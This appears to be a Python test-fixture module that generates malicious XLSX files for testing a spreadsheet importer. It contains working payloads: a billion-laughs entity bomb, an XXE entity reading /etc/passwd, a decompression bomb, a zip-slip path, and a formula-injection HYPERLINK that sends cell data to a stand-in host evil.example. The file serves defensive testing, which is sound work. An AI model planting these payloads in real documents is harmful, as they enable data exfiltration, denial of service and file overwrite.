"""Hostile and damaged workbooks: each is a real attack shape, built in code."""

from __future__ import annotations

import io
import random
import re
import zipfile
from collections.abc import Callable, Iterator
from xml.sax.saxutils import escape

import openpyxl

from services.devstack._samples import INCOME, INCOME_LABELS, statement_sheet

from .spec import SheetSpec
from .xlsx import write_xlsx

__all__ = [
    "HYPERLINK_NAME",
    "billion_laughs_xlsx",
    "far_cell_xlsx",
    "formula_named_income_xlsx",
    "formula_without_value_xlsx",
    "lying_dimension_bomb_xlsx",
    "mutants",
    "replace_member",
    "with_stray_cells",
    "xxe_xlsx",
    "zip_slip_xlsx",
]

_SHEET_HEAD = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
)


def _base() -> bytes:
    return write_xlsx([SheetSpec("Sheet1", rows=[["text", 1]])])


def replace_member(
    xlsx: bytes,
    name: str,
    data: bytes | Callable[[zipfile.ZipFile], Iterator[bytes]],
    *,
    extra: dict[str, bytes] | None = None,
) -> bytes:
    """A copy of the zip with member `name` replaced (bytes, or chunks streamed by a writer)."""
    source = zipfile.ZipFile(io.BytesIO(xlsx))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for info in source.infolist():
            if info.filename != name:
                archive.writestr(info.filename, source.read(info))
                continue
            if isinstance(data, bytes):
                archive.writestr(name, data)
            else:
                with archive.open(name, "w", force_zip64=True) as part:
                    for chunk in data(source):
                        part.write(chunk)
        for extra_name, extra_data in (extra or {}).items():
            archive.writestr(extra_name, extra_data)
    return out.getvalue()


def billion_laughs_xlsx() -> bytes:
    """sharedStrings.xml with nested entity expansion (a few KB that expand to gigabytes)."""
    entities = "".join(
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10)
    )
    part = (
        '<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY lol0 "lol">' + entities + "]>"
        '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" '
        'uniqueCount="1"><si><t>&lol9;</t></si></sst>'
    ).encode()
    return replace_member(_base(), "xl/sharedStrings.xml", part)


def xxe_xlsx(target: str = "file:///etc/passwd") -> bytes:
    """sharedStrings.xml with an external entity (XXE) reading a local file."""
    part = (
        f'<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY xxe SYSTEM "{target}">]>'
        '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" '
        'uniqueCount="1"><si><t>&xxe;</t></si></sst>'
    ).encode()
    return replace_member(_base(), "xl/sharedStrings.xml", part)


def far_cell_xlsx(ref: str = "XFD1048576", *, with_a1: bool = True, declared: bool = True) -> bytes:
    """A sheet whose used range reaches `ref` (a sparse cell calamine would allocate to);
    without `declared`, no `<dimension>` says so: only the cells do."""
    cells = b'<row r="1"><c r="A1"><v>1</v></c></row>' if with_a1 else b""
    row = "".join(ch for ch in ref if ch.isdigit()).encode()
    dimension = b'<dimension ref="A1:' + ref.encode() + b'"/>' if declared else b""
    sheet = (
        _SHEET_HEAD
        + dimension
        + b"<sheetData>"
        + cells
        + b'<row r="'
        + row
        + b'"><c r="'
        + ref.encode()
        + b'"><v>2</v></c></row>'
        + b"</sheetData></worksheet>"
    )
    return replace_member(_base(), "xl/worksheets/sheet1.xml", sheet)


def lying_dimension_bomb_xlsx(rows: int = 1_500_000) -> bytes:
    """Millions of identical rows deflated to kilobytes, under a dimension claiming A1:A1."""

    def chunks(source: zipfile.ZipFile) -> Iterator[bytes]:
        yield _SHEET_HEAD + b'<dimension ref="A1:A1"/><sheetData>'
        del source  # the sheet is generated, not copied
        block = b"<row><c><v>1</v></c></row>" * 10_000
        for _ in range(rows // 10_000):
            yield block
        yield b"<row><c><v>1</v></c></row>" * (rows % 10_000)
        yield b"</sheetData></worksheet>"

    return replace_member(_base(), "xl/worksheets/sheet1.xml", chunks)


def zip_slip_xlsx() -> bytes:
    """A valid workbook that also carries a `../` member (path traversal on extraction)."""
    return replace_member(
        _base(),
        "docProps/app.xml",
        _base_member("docProps/app.xml"),
        extra={"../../evil.txt": b"owned"},
    )


def formula_without_value_xlsx() -> bytes:
    """A1 holds 2, B1 a formula with no cached value (as written by non-Excel tools)."""
    sheet = (
        _SHEET_HEAD + b'<dimension ref="A1:B1"/><sheetData><row r="1">'
        b'<c r="A1"><v>2</v></c><c r="B1"><f>A1*2</f></c></row></sheetData></worksheet>'
    )
    return replace_member(_base(), "xl/worksheets/sheet1.xml", sheet)


def _base_member(name: str) -> bytes:
    return zipfile.ZipFile(io.BytesIO(_base())).read(name)


def mutants(data: bytes, count: int, *, seed: int = 0) -> Iterator[bytes]:
    """Damaged copies: alternately truncated at a random point and with random bytes flipped."""
    rng = random.Random(seed)
    for index in range(count):
        if index % 2 == 0:
            yield data[: rng.randrange(1, len(data))]
        else:
            mutant = bytearray(data)
            for _ in range(rng.randint(1, 16)):
                mutant[rng.randrange(len(mutant))] ^= rng.randrange(1, 256)
            yield bytes(mutant)


def with_stray_cells(
    xlsx: bytes, cells: dict[str, str], part: str = "xl/worksheets/sheet1.xml"
) -> bytes:
    """The workbook with text cells added at `cells` (A1 ref → text), each after the cells of
    its row (so put at the row's far right), its row created in order when it has none."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as source:
        sheet = source.read(part)
    for ref, text in cells.items():
        number = int("".join(ch for ch in ref if ch.isdigit()))
        cell = f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{escape(text)}</t></is></c>'
        own = re.search(rb'<row r="%d"[^>]*>.*?(</row>)' % number, sheet, re.DOTALL)
        if own is not None:
            sheet = sheet[: own.start(1)] + cell.encode() + sheet[own.start(1) :]
            continue
        row = f'<row r="{number}">{cell}</row>'.encode()
        later = next(
            (m for m in re.finditer(rb'<row r="(\d+)"', sheet) if int(m.group(1)) > number), None
        )
        at = later.start() if later is not None else sheet.index(b"</sheetData>")
        sheet = sheet[:at] + row + sheet[at:]
    return replace_member(xlsx, part, sheet)


# A line name that a spreadsheet would run as a formula (issue 27: formula injection).
HYPERLINK_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Выручка")'
_MARK = "Выручка-метка"


def formula_named_income_xlsx() -> bytes:
    """An ОФР whose 2110 name is the text cell `HYPERLINK_NAME` (a string, as a borrower's
    file may hold it: xlsxwriter would write a formula, so the cell is set afterwards)."""
    lines = [(code, _MARK if code == "2110" else name, amounts) for code, name, amounts in INCOME]
    sheet = statement_sheet(
        "ОФР", "Отчет о финансовых результатах", "за 2024 г.", "0710002", INCOME_LABELS, lines
    )
    book = openpyxl.load_workbook(io.BytesIO(write_xlsx([sheet])))
    cell = next(c for row in book.active.iter_rows() for c in row if c.value == _MARK)
    cell.value = HYPERLINK_NAME
    cell.data_type = "s"
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()
